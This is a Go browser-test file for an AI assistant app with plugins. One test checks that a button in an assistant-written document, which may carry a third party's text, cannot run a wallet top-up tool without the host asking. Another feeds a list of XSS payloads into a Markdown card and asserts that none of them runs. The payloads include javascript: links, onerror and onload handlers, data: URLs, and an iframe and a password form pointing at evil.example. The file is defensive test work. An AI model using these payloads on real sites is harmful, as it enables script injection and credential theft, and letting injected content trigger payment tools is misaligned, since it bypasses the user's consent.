package browsertest

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
)

// TestInlineButtonIsTheAssistants: a ui__render document is written by the assistant, which
// may have read a third party's text; a Button in it names any tool of any plugin. A tap on
// it must not run a money tool of another plugin with no word from the host: the host decides
// as for the assistant's own call (an ask mode asks in the host's words, naming the tool's
// real title; userOnly tools are refused), whatever the document's own confirm text says.
func TestInlineButtonIsTheAssistants(t *testing.T) {
	ctx := browser(t)
	h := startHarness(t)

	// Every confirm() is recorded; the document's own question is accepted, the host's denied.
	if _, err := chromedp.Call(ctx, page.AddScriptToEvaluateOnNewDocument, page.AddScriptToEvaluateOnNewDocumentParams{
		Source: `window.__asked = []; window.confirm = (m) => { window.__asked.push(String(m)); return !String(m).includes('校园卡充值'); };`}); err != nil {
		t.Fatal(err)
	}
	if err := chromedp.Do(ctx, chromedp.Navigate(h.url+"/chat"),
		chromedp.WaitVisible(chromedp.ID(`composer-input`)),
		chromedp.SendKeys(chromedp.ID(`composer-input`), "表单"),
		chromedp.Click(chromedp.CSS(`.composer button[type=submit]`)),
		chromedp.WaitVisible(chromedp.CSS(`.inline-ui .g-btn`)),
		chromedp.Click(chromedp.CSS(`.inline-ui .g-btn`)),
	); err != nil {
		t.Fatal(err)
	}
	var asked []string
	deadline := time.Now().Add(10 * time.Second)
	for time.Now().Before(deadline) {
		asked = eval[[]string](t, ctx, `window.__asked`)
		if len(asked) >= 2 || h.tapped(t, "wallet", "topup") {
			break
		}
		time.Sleep(100 * time.Millisecond)
	}
	time.Sleep(300 * time.Millisecond)
	if h.tapped(t, "wallet", "topup") {
		t.Errorf("a tap on the assistant's button ran wallet.topup (money) as the person's own tap without the host asking; asked: %q", asked)
	}
	if len(asked) < 2 || !strings.Contains(asked[len(asked)-1], "校园卡充值") {
		t.Errorf("the host never asked in its own words (the tool's title 校园卡充值); asked: %q", asked)
	}
}

// tapped reports whether the audit log holds a call of plugin.tool as the user (a person's own
// tap, which an ask mode does not question).
func (h *harness) tapped(t *testing.T, plugin, tool string) bool {
	a := h.api(t, "GET", "/v1/audit?plugin="+plugin, "")
	es, _ := a["entries"].([]any)
	for _, e := range es {
		m, _ := e.(map[string]any)
		if m["tool"] == tool && m["actor"] == "user" {
			return true
		}
	}
	return false
}

// TestMarkupStaysText: a card's document is the assistant's or a plugin's; its Markdown and
// text are drawn in the app's origin. None of the usual payloads may run a script, load an
// image or frame, or leave a link that is not https.
func TestMarkupStaysText(t *testing.T) {
	ctx := browser(t)
	con := watch(t, ctx)
	h := startHarness(t)
	md := strings.Join([]string{
		"[a](javascript:window.__xss=1)", `<img src=x onerror="window.__xss=2">`, "<script>window.__xss=3</script>",
		`[b](https://ok.example/" onmouseover="window.__xss=4)`, "![i](https://evil.example/i.png)",
		`<a href="javascript:window.__xss=5">c</a>`, "[d](JaVaScRiPt:window.__xss=6)", "<svg onload=window.__xss=7>",
		"[e](data:text/html,<script>alert(1)</script>)", "<javascript:window.__xss=8>", `<iframe src="https://evil.example">`,
		`<form action=https://evil.example><input name=p type=password></form>`, "[f](//evil.example/x)", "[g](/settings)",
		"- [x] task", "<style>body{display:none}</style>",
	}, "\n\n")
	doc := map[string]any{"ui": 1, "kind": "widget", "title": "md", "description": "markup",
		"root": map[string]any{"type": "Column", "children": []any{
			map[string]any{"type": "Markdown", "text": md},
			map[string]any{"type": "Text", "text": `<img src=x onerror="window.__xss=9">`},
		}}}
	b, _ := json.Marshal(doc)
	in, _ := json.Marshal(map[string]any{"actor": "user", "input": map[string]any{"document": string(b), "tool": "shuttle.next", "size": "md"}})
	h.api(t, "POST", "/v1/tools/dashboard__upsertWidget/call", string(in))
	if err := chromedp.Do(ctx, chromedp.Navigate(h.url+"/"), chromedp.WaitVisible(chromedp.CSS(`[data-card] .drawn, [data-card] .state`))); err != nil {
		t.Fatal(err)
	}
	if s := text(t, ctx, `[data-card]`); !strings.Contains(s, "task") {
		t.Fatalf("the card is not drawn: %s", s)
	}
	time.Sleep(300 * time.Millisecond)
	got := eval[map[string]any](t, ctx, `(() => {
		const card = document.querySelector('[data-card]');
		const on = [...card.querySelectorAll('*')].filter((e) => [...e.attributes].some((a) => /^on/i.test(a.name))).length;
		return { xss: window.__xss ?? null, tags: [...card.querySelectorAll('img,script,iframe,svg:not(.g-spark),form,style,object,embed')].map((e) => e.tagName),
			links: [...card.querySelectorAll('a[href]')].map((a) => a.getAttribute('href')), on, text: card.querySelector('.g-text')?.textContent };
	})()`)
	if got["xss"] != nil || fmt.Sprint(got["tags"]) != "[]" || got["on"] != float64(0) {
		t.Errorf("markup ran or was kept: %v", got)
	}
	for _, l := range got["links"].([]any) {
		if !strings.HasPrefix(fmt.Sprint(l), "https://") {
			t.Errorf("a link that is not https: %q", l)
		}
	}
	if !strings.Contains(fmt.Sprint(got["text"]), "<img") {
		t.Errorf("the Text node's markup is not shown as text: %v", got["text"])
	}
	t.Logf("drawn: %v", got)
	for _, p := range con.problems() {
		if strings.Contains(p, "Content Security Policy") {
			t.Errorf("the page tried something the CSP refused: %s", p)
		}
	}
}
